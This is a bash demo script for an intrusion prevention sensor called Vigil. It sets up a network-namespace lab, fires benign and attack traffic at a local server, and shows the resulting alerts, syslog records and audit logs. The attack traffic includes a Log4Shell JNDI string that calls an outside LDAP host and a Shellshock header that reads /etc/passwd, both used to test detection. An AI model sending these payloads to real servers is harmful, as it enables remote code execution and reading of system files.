#!/usr/bin/env bash
# Vigil's main job on its built-in defaults, end to end on this machine:
# bring up the lab (two network namespaces joined by a veth pair), start
# `vigil run` in IPS mode on the server's side with the shipped rules, have
# the client send benign traffic and attacks, then show the alerts (EVE), a
# syslog view (a real rsyslogd receiving RFC 5424), what the audit store says
# was blocked and from where, and its hash-chain verification. Tears down.
set -euo pipefail
cd "$(dirname "$0")/.."

scripts/setup.sh
export PATH="$HOME/.cargo/bin:$PATH"
cargo build --release -p sensor
VIGIL="$PWD/target/release/vigil"
SUPPORT="$PWD/sensor/tests/support"
DEMO=$(mktemp -d /tmp/vigil-demo.XXXX)

cleanup() {
    [ -n "${SENSOR_PID:-}" ] && kill -TERM "$SENSOR_PID" 2>/dev/null && wait "$SENSOR_PID" 2>/dev/null || true
    for pid in ${SERVER_PID:-} ${SYSLOG_PID:-}; do kill "$pid" 2>/dev/null || true; done
    "$VIGIL" lab down
}
trap cleanup EXIT
step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

step "vigil lab up (a fresh lab)"
"$VIGIL" lab down
"$VIGIL" lab up

step "a web server and a syslog receiver (rsyslogd) in the server namespace"
"$VIGIL" lab exec server python3 "$SUPPORT/record_server.py" 8080 "$DEMO/server.log" http &
SERVER_PID=$!
cat > "$DEMO/rsyslog.conf" <<CONF
global(workDirectory="$DEMO")
module(load="imudp")
input(type="imudp" address="127.0.0.1" port="5514")
template(name="line" type="string" string="%timestamp:::date-rfc3339% %app-name% msgid=%msgid% %structured-data% %msg%\n")
*.* action(type="omfile" file="$DEMO/syslog.log" template="line")
CONF
"$VIGIL" lab exec server rsyslogd -n -f "$DEMO/rsyslog.conf" -i "$DEMO/rsyslog.pid" &
SYSLOG_PID=$!

step "the configuration: built-in defaults, plus IPS mode and a syslog target"
cat > "$DEMO/vigil.toml" <<CONF
ips = true
[eve]
path = "$DEMO/eve.json"
http_log = true
[audit]
path = "$DEMO/audit.db"
[stats]
path = "$DEMO/stats.json"
[[syslog]]
transport = "udp"
address = "127.0.0.1:5514"
format = "rfc5424"
body = "cef"
CONF
cat "$DEMO/vigil.toml"
"$VIGIL" config check "$DEMO/vigil.toml"

step "vigil run --config vigil.toml (in the server namespace; every interface that is up)"
"$VIGIL" lab exec server "$VIGIL" run --config "$DEMO/vigil.toml" 2> "$DEMO/sensor.log" &
SENSOR_PID=$!
for _ in $(seq 100); do grep -q "running on" "$DEMO/sensor.log" 2>/dev/null && break; sleep 0.1; done
cat "$DEMO/sensor.log"

step "the client: benign requests, a scanner, and a Log4Shell attack on a keep-alive connection"
"$VIGIL" lab exec client curl -sS -o /dev/null -w "benign GET: HTTP %{http_code}\n" http://10.77.0.2:8080/index.html
"$VIGIL" lab exec client curl -sS -o /dev/null -w "scanner user agent: HTTP %{http_code}\n" -A "sqlmap/1.7.2#stable" http://10.77.0.2:8080/
echo "keep-alive session: hello, attack, after-the-attack (one line per request):"
"$VIGIL" lab exec client env HTTP_CLIENT_PAUSE=0.3 python3 "$SUPPORT/http_client.py" 10.77.0.2 8080 45100 2 \
    hello '${jndi:ldap://198.51.100.7/Exploit}' after-the-attack || true
"$VIGIL" lab exec client curl -sS -o /dev/null -w "a new connection afterwards: HTTP %{http_code}\n" http://10.77.0.2:8080/
echo "Shellshock: its rule's literal is in the kernel's automaton, so the request is dropped at TC:"
"$VIGIL" lab exec client curl -sS -o /dev/null -m 3 -w "HTTP %{http_code}\n" -H "User-Agent: () { :; }; /bin/cat /etc/passwd" \
    http://10.77.0.2:8080/cgi-bin/status || echo "no response (dropped before the server)"
sleep 1.5

step "vigil stats (the running sensor's counters)"
"$VIGIL" stats --file "$DEMO/stats.json"
kill -TERM "$SENSOR_PID"; wait "$SENSOR_PID" || true
SENSOR_PID=
tail -n 4 "$DEMO/sensor.log"

step "alerts in EVE JSON ($DEMO/eve.json)"
python3 - "$DEMO/eve.json" <<'PY'
import json, sys
for line in open(sys.argv[1]):
    r = json.loads(line)
    if r["event_type"] == "alert":
        a = r["alert"]
        print(f'{r["timestamp"]}  {a["action"]:8} sid {a["signature_id"]}  {r["src_ip"]}:{r["src_port"]} -> {r["dest_ip"]}:{r["dest_port"]}  {a["signature"]}')
PY

step "what rsyslogd received (RFC 5424, CEF bodies)"
sleep 0.5
cat "$DEMO/syslog.log" || true

step "what the web server received (the Shellshock request is not there)"
grep -c "" "$DEMO/server.log" | xargs echo "chunks received:"
grep -q "() {" "$DEMO/server.log" && echo "the server saw the Shellshock request!" || echo "no Shellshock request reached the server"

step "vigil audit query --action blocked --src 10.0.0.0/8 --since 1h"
"$VIGIL" audit query --db "$DEMO/audit.db" --action blocked --src 10.0.0.0/8 --since 1h

step "vigil audit verify"
"$VIGIL" audit verify --db "$DEMO/audit.db"

step "done; tearing the lab down (files kept in $DEMO)"
